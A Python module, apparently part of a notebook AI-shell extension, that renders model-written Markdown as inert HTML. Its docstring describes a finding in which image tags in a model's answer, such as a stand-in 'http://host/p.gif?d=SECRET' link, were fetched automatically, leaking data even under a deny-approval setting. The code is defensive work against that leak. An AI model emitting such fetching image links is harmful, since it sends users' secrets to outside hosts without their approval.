"""Model text as HTML that loads nothing (issue 35 finding 4 / item 4).

A model's answer is Markdown, and a Markdown renderer fetches what it is told to: JupyterLab
rendered ``![x](http://host/p.gif?d=SECRET)`` and ``<img src=…>`` from the ``text/markdown`` of a
``%dsh`` cell and fetched them — with no tool run, under ``--approve deny``, and again each time
anyone opened the saved notebook (nbconvert and papermill copies too). JupyterLab's sanitizer keeps
images; it only strips scripts.

So the cell shows ``text/html`` that this module renders itself, with `markdown-it-py`
(CommonMark, maintained) and **raw HTML off**, and no ``text/markdown`` at all — a viewer parses
no Markdown of the model's, so no difference between two Markdown parsers can bring an image back:

- raw HTML (``<img>``, ``<iframe>``, ``<link>``, ``<style>``, SVG, ``srcset`` …) is escaped: it
  shows as the text the model wrote;
- an image becomes a link a person must click, ``[image: alt]`` (its address in the title), or,
  for a ``data:`` URL, plain text;
- a link stays a link (``rel="noopener noreferrer nofollow"``: a click sends no referrer);
  markdown-it refuses ``javascript:``, ``vbscript:``, ``file:`` and ``data:`` links already;
- every attribute and text is escaped by the renderer; nothing here emits ``src``, ``style`` with
  ``url()``, or a tag that fetches.

Tables and strikethrough (GFM) are on; what the renderer cannot parse stays text.
"""

from __future__ import annotations

import html
from collections.abc import Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

LINK_REL = "noopener noreferrer nofollow"


def _image(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """An image as a link to it (never an ``<img>``): the address is not fetched until clicked."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env)
    label = html.escape(f"[image: {alt}]" if alt else "[image]")
    if not src or src.lower().startswith("data:"):
        return f'<span class="dsh-image-off" title="an inline image (not shown)">{label}</span>'
    where = html.escape(src)
    return (f'<a href="{where}" title="image not loaded: {where}" rel="{LINK_REL}" target="_blank" '
            f'class="dsh-image-link">{label}</a>')


def _link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    token.attrSet("rel", LINK_REL)
    token.attrSet("target", "_blank")
    return str(self.renderToken(tokens, idx, options, env))


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    return md


_MD = _parser()


def inert_html(markdown: str) -> str:
    """``markdown`` (model text) as HTML that fetches nothing when shown."""
    return _MD.render(markdown)


__all__ = ["LINK_REL", "inert_html"]
